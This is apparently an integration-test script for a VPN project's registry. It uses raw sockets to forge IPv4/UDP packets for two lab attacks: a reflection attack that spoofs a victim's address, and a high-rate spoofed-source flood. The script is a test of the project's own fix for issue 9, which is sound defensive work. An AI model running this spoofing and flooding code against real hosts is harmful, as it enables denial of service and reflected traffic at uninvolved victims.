"""An attacker on the lab's internet, aiming at the registry (issue 9's "Why").

Run inside an internet host's namespace:

    python tests/integration/registry_attacker.py spoof --registry 198.18.0.1:7946 \\
        --key-b64 KEY --victim 198.18.0.11 --count 400
    python tests/integration/registry_attacker.py flood --registry 198.18.0.1:7946 \\
        --key-b64 KEY --rate 20000 --seconds 8

`spoof` sends `register` messages (sealed with a fresh key, mac1 right, no cookie) from
the victim's address, one source port after another, through a raw socket: before
issue 9 each one made the registry send the victim its reply and pushes. `flood` sends
junk at `rate` datagrams a second from spoofed addresses of `--spoof-network`: half
well-formed messages of never-seen keys (each asks for a cookie reply), half bytes with
a control type and a wrong mac1. Each prints one JSON line: what it sent.
"""

import argparse
import ipaddress
import json
import os
import random
import socket
import struct
import time
from collections import Counter

from pilotif.net.hostport import parse_host_port
from pilotif.node.registry_link import RegistryLink
from pilotif.wg.crypto import generate_private_key
from pilotif.wg.keys import decode_key

_UDP_HEADER = struct.Struct("!HHHH")
_IPV4_HEADER = struct.Struct("!BBHHHBBH4s4s")
_IPV4_VERSION_IHL = 0x45
_TTL = 64
_PROTO_UDP = 17
_DISTINCT_MESSAGES = 200
_BATCH = 200


def _packet(source: tuple[str, int], destination: tuple[str, int], payload: bytes) -> bytes:
    """An IPv4/UDP packet (the kernel fills in the IP checksum and id; UDP checksum 0)."""
    udp = _UDP_HEADER.pack(source[1], destination[1], 8 + len(payload), 0) + payload
    ip = _IPV4_HEADER.pack(
        _IPV4_VERSION_IHL,
        0,
        20 + len(udp),
        0,
        0,
        _TTL,
        _PROTO_UDP,
        0,
        ipaddress.IPv4Address(source[0]).packed,
        ipaddress.IPv4Address(destination[0]).packed,
    )
    return ip + udp


def _registers(registry: tuple[str, int], registry_key: bytes, count: int) -> list[bytes]:
    """`count` register messages of fresh keys, each with a right mac1 and no cookie."""
    messages = []
    for number in range(count):
        link = RegistryLink(generate_private_key(), registry, registry_key, first_counter=1)
        link.request("register", {"hostname": f"spoof{number}", "tags": [], "lan": []}, 0.0)
        messages.append(link.outgoing[0][0])
    return messages


def _raw_socket() -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    return sock


def spoof(registry: tuple[str, int], registry_key: bytes, victim: str, count: int) -> Counter[str]:
    sent: Counter[str] = Counter()
    sock = _raw_socket()
    for number, message in enumerate(_registers(registry, registry_key, count)):
        sock.sendto(_packet((victim, 1024 + number), registry, message), registry)
        sent["datagrams"] += 1
        sent["bytes"] += len(message)
    return sent


def flood(
    registry: tuple[str, int],
    registry_key: bytes,
    spoofed: ipaddress.IPv4Network,
    rate: float,
    seconds: float,
) -> Counter[str]:
    sent: Counter[str] = Counter()
    sock = _raw_socket()
    well_formed = _registers(registry, registry_key, _DISTINCT_MESSAGES)
    junk = [bytes((0x50, 0, 0, 0)) + os.urandom(len(m) - 4) for m in well_formed]
    packets = [
        _packet(
            (
                str(spoofed[random.randrange(1, spoofed.num_addresses - 1)]),
                random.randrange(1024, 65535),
            ),
            registry,
            message,
        )
        for pair in zip(well_formed, junk, strict=True)
        for message in pair
    ]
    start = time.monotonic()
    while (elapsed := time.monotonic() - start) < seconds:
        due = int(elapsed * rate) - sent["datagrams"]
        for _ in range(min(due, _BATCH)):
            sock.sendto(packets[sent["datagrams"] % len(packets)], registry)
            sent["datagrams"] += 1
        if due < _BATCH:
            time.sleep(0.001)
    sent["seconds"] = round(time.monotonic() - start)
    return sent


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("mode", choices=("spoof", "flood"))
    parser.add_argument("--registry", required=True)
    parser.add_argument("--key-b64", required=True)
    parser.add_argument("--victim", default="")
    parser.add_argument("--count", type=int, default=400)
    parser.add_argument("--spoof-network", type=ipaddress.IPv4Network, default="198.18.200.0/24")
    parser.add_argument("--rate", type=float, default=20_000.0)
    parser.add_argument("--seconds", type=float, default=8.0)
    args = parser.parse_args()
    registry = parse_host_port(args.registry)
    key = decode_key(args.key_b64)
    if args.mode == "spoof":
        result = spoof(registry, key, args.victim, args.count)
    else:
        result = flood(registry, key, args.spoof_network, args.rate, args.seconds)
    print(json.dumps(dict(result)))


if __name__ == "__main__":
    main()
